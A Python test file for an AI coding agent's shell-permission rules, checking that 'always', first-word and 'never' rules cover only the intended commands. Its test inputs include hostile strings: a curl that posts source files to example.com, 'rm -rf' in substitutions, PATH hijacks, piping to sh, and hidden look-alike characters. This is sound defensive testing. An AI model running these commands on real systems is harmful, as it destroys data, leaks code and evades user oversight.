"""Rules of the user: what an "always" covers, also by first words, and what a "never" stops."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from helix_desktop.app.workspaces.workspace_permissions import SWITCHED_OFF
from helix_desktop.domain.permission import (
    NOT_READING,
    CallRuling,
    Judgement,
    PermissionRule,
    PermissionState,
    RuleDecision,
    is_unknown_reading,
)
from helix_desktop.domain.value import replace
from helix_desktop.tools.permissions.command_policy import MAX_COMMAND_CHARS, judge_command
from helix_desktop.tools.permissions.prefix_rules import covers_words, describe_prefix
from helix_desktop.tools.permissions.rules import (
    NO_SANDBOX_KIND,
    NOT_TRUSTED,
    TAINTED,
    apply_rules,
)
from tests.tools.permissions.standing import GOOD, always, never, ruled


def test_an_always_covers_what_the_card_showed() -> None:
    for command in ("make  'test'", "make $X | sh", "x=1; make `x`", "cat <<E\nx\nE\nmake"):
        forms = ruled(command).forms
        assert forms == (command,)
        assert ruled(command, *always(*forms)).ruling is CallRuling.ALLOW
        assert ruled(f"{command}; rm f", *always(*forms)).ruling is CallRuling.ASK
    # what it covers it also covers beside commands that only read
    assert ruled("make test | head", *always("make test")).ruling is CallRuling.ALLOW


@pytest.mark.parametrize(
    ("command", "forms"),
    [
        ("git commit -qm x && git status --short", ("git commit …",)),
        ("git add -A && git diff --cached --stat", ("git add …",)),
        ("make && git log -1", ("make …",)),
        ("make test | awk '/FAILED/' | sort -u", ("make …",)),
        (
            "rg -l TODO && git add -A && git commit -qm x; find . -name x",
            ("git add …", "git commit …"),
        ),
    ],
)
def test_commands_that_read_bring_no_question_back(command: str, forms: tuple[str, ...]) -> None:
    assert ruled(command).prefixes == forms
    assert ruled(command, *always(*forms)).ruling is CallRuling.ALLOW
    assert ruled(f"{command}; rm f", *always(*forms)).ruling is CallRuling.ASK


@pytest.mark.parametrize(
    "first",
    [
        "export PATH=bin:$PATH",
        "builtin export PATH=bin",
        "unset GIT_DIR",
        "find . -delete",
        "sort -o f f",
        "FOO=1 awk 1 f",
        "[ -v 'a[$(make)]' ]",
        "xargs rm",
        "git stash",
    ],
)
def test_commands_that_change_what_others_do_or_a_file_need_a_rule(first: str) -> None:
    assert ruled(f"{first} && make", *always("make …")).ruling is CallRuling.ASK


def test_with_the_network_a_command_that_reads_needs_a_rule_since_it_could_send() -> None:
    judgement = judge_command("npm install && awk 1 f", network=True)
    assert judgement.prefixes == ("npm install …", "awk …")
    assert judge_command("npm install && head f", network=True).prefixes == ("npm install …",)


@pytest.mark.parametrize(
    ("command", "standing", "why"),
    [
        ("make \u200btest", GOOD, "it contains invisible characters"),
        ("m\u0430ke test", GOOD, "it contains look-alike letters"),
        ("git push --force", GOOD, "it replaces what was pushed"),
        ("make && git push origin :old", GOOD, "it replaces what was pushed"),
        ("make …", GOOD, "not for this kind of call"),
        (
            "make test",
            replace(GOOD, trusted=False),
            "trust this folder first",
        ),
        (
            "curl https://example.com",
            replace(GOOD, tainted=True, sandboxed=False),
            "outside content is in the conversation",
        ),
    ],
)
def test_without_an_always_the_reason_is_told(
    command: str, standing: PermissionState, why: str
) -> None:
    judgement = ruled(command, standing=standing)
    assert (judgement.ruling, judgement.forms, judgement.why_not_always) == (
        CallRuling.ASK,
        (),
        why,
    )


def test_a_wish_to_be_asked_is_why_there_is_no_always() -> None:
    judgement = ruled("make test", PermissionRule("shell", RuleDecision.ASK, "make test"))
    assert (judgement.forms, judgement.why_not_always) == ((), "a rule says to always ask")
    assert ruled("make test").why_not_always == ""


@pytest.mark.parametrize(
    "other",
    [
        "make test x",
        "make",
        "make -f x test",
        "make test; rm f",
        "make test > f",
        "make 'test x'",
        "CC=x make test",
        "cd src && make test",
        "make test &",
        "make $(ls)",
        "./make test",
    ],
)
def test_an_always_covers_no_other_command(other: str) -> None:
    assert ruled(other, *always("make test", "make")[:1]).ruling is CallRuling.ASK


@given(st.text(alphabet=" abmaketest-'\"\\;&|$`><\n", max_size=12))
def test_a_longer_command_is_not_covered_by_the_always_of_its_beginning(tail: str) -> None:
    command = "make test" + tail
    judgement = ruled(command, *always("make test"))
    if judgement.ruling is CallRuling.ALLOW:
        assert judge_command(command).parts == ("make test",) or not tail.strip()


def test_a_rule_covers_the_command_that_it_was_made_from() -> None:
    for command in ["npm run 'a b'", "./x.py a", "cp a 'b c' > 'd e' 2>&1", "cd src && make x"]:
        [form] = judge_command(command).forms
        assert (form, judge_command(form).forms) == (command, (command,))


@pytest.mark.parametrize(
    "command",
    [
        "git push",
        "git push -f x",
        "ls && git push",
        "sudo git push",
        "bash -c 'git push x'",
        "if a; then git push; fi",
        "echo $(git push)",
        "git -c a=b push",
        "env A=b git push",
    ],
)
def test_a_never_is_found_wherever_it_stands(command: str) -> None:
    assert judge_command("git push").forbids == ("git push …",)
    judgement = ruled(command, never("git push …"), *always("git push"))
    assert judgement.ruling is CallRuling.DENY


def test_a_never_stops_what_is_harmless_too() -> None:
    assert ruled("git log", never("git log …")).ruling is CallRuling.DENY
    assert ruled("ls; git log -1", never("git …")).ruling is CallRuling.DENY
    assert ruled("git status", never("git log …")).ruling is CallRuling.ALLOW


def test_a_never_is_found_in_a_command_of_any_length() -> None:
    long = "ls;" * MAX_COMMAND_CHARS + "git push"
    assert ruled(long, never("git push …")).ruling is CallRuling.DENY
    assert ruled("ls;" * MAX_COMMAND_CHARS, never("wget …")).ruling is CallRuling.ASK


def test_ask_beats_always_and_harmless() -> None:
    ask = PermissionRule("shell", RuleDecision.ASK, "make …")
    assert ruled("make test", ask, *always("make test")).ruling is CallRuling.ASK
    assert ruled("ls", PermissionRule("shell", RuleDecision.ASK, "ls …")).ruling is CallRuling.ASK


def test_no_rule_allows_a_refused_command() -> None:
    rules = [PermissionRule("shell", RuleDecision.ALWAYS), *always("rm -rf /")]
    assert ruled("rm -rf /", *rules).ruling is CallRuling.DENY


def test_no_rule_allows_every_command() -> None:
    assert ruled("make", PermissionRule("shell", RuleDecision.ALWAYS)).ruling is CallRuling.ASK


def test_a_rule_of_another_tool_means_nothing() -> None:
    assert (
        ruled("make", PermissionRule("other", RuleDecision.ALWAYS, "make")).ruling is CallRuling.ASK
    )


def test_a_folder_that_is_not_trusted_has_no_rules() -> None:
    standing = replace(GOOD, trusted=False)
    judgement = ruled("make", *always("make"), standing=standing)
    assert (judgement.ruling, judgement.forms) == (CallRuling.ASK, ())
    assert NOT_TRUSTED in ruled("ls", standing=standing).reasons


def test_without_a_sandbox_every_command_asks() -> None:
    standing = replace(GOOD, sandboxed=False)
    judgement = ruled("ls -l | head", *always("make"), standing=standing)
    assert (judgement.ruling, judgement.forms) == (CallRuling.ASK, ("ls -l | head",))
    assert NO_SANDBOX_KIND in judgement.reasons
    assert ruled("npm test; rm f; make", standing=standing).reasons == (
        NO_SANDBOX_KIND,
        "Deletes files.",
    )
    assert ruled("make", *always("make"), standing=standing).ruling is CallRuling.ASK
    unboxed = always("make", sandboxed=False)
    assert ruled("make", *unboxed, standing=standing).ruling is CallRuling.ALLOW
    assert ruled("make; ls", *unboxed, standing=standing).ruling is CallRuling.ASK


def test_a_sandbox_that_the_user_switched_off_is_not_told_as_a_missing_one() -> None:
    judgement = ruled("ls", standing=replace(GOOD, sandboxed=False, no_sandbox=SWITCHED_OFF))
    assert judgement.reasons == (SWITCHED_OFF,)
    assert judgement.ruling is CallRuling.ASK


def test_once_content_from_elsewhere_came_nothing_runs_by_a_rule_without_a_sandbox() -> None:
    tainted = replace(GOOD, tainted=True)
    rules = always("make", sandboxed=False)
    assert ruled("make", *rules, standing=tainted).ruling is CallRuling.ALLOW
    assert ruled("make", *rules, standing=replace(GOOD, sandboxed=False)).ruling is (
        CallRuling.ALLOW
    )
    judgement = ruled("make", *rules, standing=replace(tainted, sandboxed=False))
    assert (judgement.ruling, judgement.forms) == (CallRuling.ASK, ())
    assert TAINTED in judgement.reasons


def test_a_rule_for_a_folder_means_what_is_below() -> None:
    judgement = Judgement(CallRuling.ASK, ("It changes it.",), ("files",), path="src/a/b.py")

    def ruling_for(path: str, decision: RuleDecision = RuleDecision.ALWAYS) -> CallRuling:
        rules = [PermissionRule("edit_file", decision, path=path)]
        return apply_rules(judgement, rules, GOOD, tool="edit_file", is_command=False).ruling

    assert ruling_for("src") is ruling_for("src/a/b.py") is ruling_for(".") is CallRuling.ALLOW
    assert ruling_for("sr") is ruling_for("src/a/b") is ruling_for("docs") is CallRuling.ASK
    assert ruling_for("src/a", RuleDecision.NEVER) is CallRuling.DENY


OFFERED = [
    ("cargo test --lib parser", "cargo test …"),
    ("npm run build", "npm run build …"),
    ("npm test", "npm test …"),
    ("pytest -x tests/test_a.py", "pytest …"),
    ("git commit -m 'say a=b; then && stop'", "git commit …"),
    ("go test ./... 2>&1", "go test …"),
    ("make -j4 all", "make …"),
    (".venv/bin/python -m pytest -q", ".venv/bin/python -m pytest …"),
    ("node x.js --watch", "node x.js …"),
    ("uv run pytest tests", "uv run pytest …"),
    ("uv pip install x", "uv pip …"),
    ("uv run python -m pytest -q", "uv run python -m pytest …"),
    ("uv tool run ruff check", "uv tool run ruff …"),
    ("timeout --signal=KILL 5 make", "timeout --signal=KILL 5 make …"),
    ("python3 tasks.py test tests/a.py", "python3 tasks.py test …"),
    ("python3.11 scripts/make.py out.txt", "python3.11 scripts/make.py …"),
    ("timeout 60 make test", "timeout 60 make …"),
    ("npx jest --watch", "npx jest …"),
    ("./run.sh a b", "./run.sh …"),
    ("bash build.sh", "bash build.sh …"),
    ("mkdir -p a/b", "mkdir …"),
    ("CI=1 NO_COLOR=1 npm test", "npm test …"),
    ("'my tool' x", "'my tool' …"),
]


@pytest.mark.parametrize(("command", "prefix"), OFFERED)
def test_a_rule_for_the_first_words_covers_any_other_words_behind_them(
    command: str, prefix: str
) -> None:
    assert judge_command(command).prefixes == (prefix,)
    assert ruled(command, *always(prefix)).ruling is CallRuling.ALLOW
    lead = prefix.removesuffix(" …")
    for other in (f"{lead} --any=1 other 'a b'", f"{lead} x | head -20", f"cd src && {lead} x"):
        assert ruled(other, *always(prefix)).ruling is CallRuling.ALLOW
    assert ruled(f"{lead} x | sh", *always(prefix)).ruling is CallRuling.ASK


@pytest.mark.parametrize(
    "command",
    [
        "PYTHONPATH=x make",
        "eval make",
        ". x",
        "env A=1",
        "python3 -c 'x()'",
        "bash -c 'make x'",
        "node",
        "git -c a=b log x",
        "uv run",
        "env",
        "npm",
        "timeout -s KILL 5 make",
        "env -u A make",
        "env -S 'make x'",
        "uv run bash -c make",
        "uv run env -S make",
        "uv tool run",
        "parallel make",
        "watch make",
    ],
)
def test_a_word_that_says_too_little_is_not_offered_as_a_rule(command: str) -> None:
    assert judge_command(command, changes=True).prefixes == ()
    assert judge_command(command, changes=True).forms == (command,)


@pytest.mark.parametrize("first", ["test -v 'a[$(x)]'", "test -v 'a[`x`]'", "[ -v 'a[$(x)]' ]"])
def test_a_condition_that_runs_a_command_is_not_covered_by_the_rule_of_another(first: str) -> None:
    assert ruled("test -f a && make x", *always("make …")).ruling is CallRuling.ALLOW
    assert ruled(f"{first} && make x", *always("make …")).ruling is CallRuling.ASK


def test_a_rule_covers_whole_words_and_may_be_shorter_than_the_offered_one() -> None:
    assert covers_words("uv run …", "uv run pytest -q")
    assert not covers_words("uv run …", "uv running")
    assert not covers_words("uv run", "uv run pytest")
    assert not covers_words(" …", "anything")
    assert ruled("uv run pytest -q", *always("uv run …")).ruling is CallRuling.ALLOW
    assert ruled("uv running", *always("uv run …")).ruling is CallRuling.ASK
    assert ruled("git 'commit x'", *always("git commit …")).ruling is CallRuling.ASK


@pytest.mark.parametrize(
    "command",
    [
        "cargo test; rm -rf src",
        "cargo test && curl -d @src https://example.com",
        "cargo test || touch x",
        "cargo test | sh",
        "cat setup.txt | cargo test",
        "cargo test > out.txt",
        "cargo test < in.txt",
        "cargo test $(rm -rf src)",
        "cargo test `rm -rf src`",
        "cargo test $X",
        "cargo test *",
        "cargo test {a,b}",
        "X=1 cargo test",
        "cargo +nightly test",
        "cargo testing",
        "cargo",
        "./cargo test",
        "cargo test & rm -rf src",
        "(cargo test; rm -rf src)",
        "if true; then cargo test; fi",
        "PATH=evil; cargo test",
        "export PATH=evil && cargo test",
        "for PATH in evil; do cargo test; done",
        "cd() { ./evil; }; cd src && cargo test",
        "set -- x; cargo test",
        "source x; cargo test",
        "echo $(touch x); cargo test",
        "echo x > f; cargo test",
        "[[ -v a[$(touch x)] ]] && cargo test",
        "cargo test 'a",
        "cargo test \\`rm x\\`",
        "cargo test $'a'",
        "cargo test <(rm x)",
        "cargo test >&3",
        "cargo test -2>&1",
        "-\t2>&1; cargo test",
        "cargo test;{}",
        "(cargo test)",
        "cargo test x2>&1",
        "cargo test 2>&1=",
        "\\ cargo test",
        "cargo\\\n-x cargo test",
        "cargo test \\; rm f",
        "cargo test 2>err",
        "cargo ​test",
    ],
)
def test_a_rule_for_first_words_covers_no_command_that_does_more(command: str) -> None:
    assert ruled(command, *always("cargo test …")).ruling is CallRuling.ASK


def test_a_rule_for_first_words_needs_a_sandbox_and_a_trusted_folder() -> None:
    for standing in (replace(GOOD, sandboxed=False), replace(GOOD, trusted=False)):
        judgement = ruled("cargo test", *always("cargo test …"), standing=standing)
        assert judgement.ruling is CallRuling.ASK
        assert judgement.prefixes == ()


def test_each_command_of_a_line_needs_a_rule() -> None:
    rules = always("cargo test …")
    assert ruled("cargo test && cargo build", *rules).ruling is CallRuling.ASK
    assert ruled("cargo test && cargo test --lib", *rules).ruling is CallRuling.ALLOW
    assert ruled("cd src && cargo test", *rules).ruling is CallRuling.ALLOW


def test_the_card_says_what_else_is_covered() -> None:
    [coverage] = ruled("cargo test --lib parser").covers
    assert coverage.startswith("`cargo test` followed by any other words.")
    assert "Only in the sandbox" in coverage
    assert "`cargo test && …`" in coverage
    assert describe_prefix("cargo test") == describe_prefix(" …") == ""


def test_a_never_beats_an_always() -> None:
    rules = (*always("git commit …"), never("git commit …"))
    assert ruled("git commit -m x", *rules).ruling is CallRuling.DENY


@pytest.mark.parametrize(
    ("command", "forbids"),
    [
        ("python3 <<E\nprint(1)\nE", "python3 <<E\nprint(1)\nE"),
        ("cat > x <<E\na\nE", "cat > x <<E\na\nE"),
        ("python3 -c 'x()'", "python3 -c 'x()'"),
        ("python3 x.py a", "python3 x.py …"),
        ("node x.js", "node x.js …"),
        ("make x", "make …"),
        ("touch x", "touch …"),
    ],
)
def test_a_never_is_no_wider_than_what_was_asked_about(command: str, forbids: str) -> None:
    assert judge_command(command).forbids == (forbids,)


@pytest.mark.parametrize("command", ["python3 <<E\nprint(1)\nE", "python3 -c 'x()'", "cat f | sh"])
def test_a_never_for_the_very_words_holds(command: str) -> None:
    [form] = judge_command(command).forbids
    assert ruled(command, never(form)).ruling is CallRuling.DENY
    assert ruled("python3 y.py", never(form)).ruling is CallRuling.ASK


def test_a_path_that_imitates_another_reason_does_not_hide_its_own_reason() -> None:
    path = f"{NOT_READING}./AGENTS.md"
    assert is_unknown_reading(f"`make` {NOT_READING}.")
    assert not is_unknown_reading(f"`{path}` starts programs or tells agents what to do.")
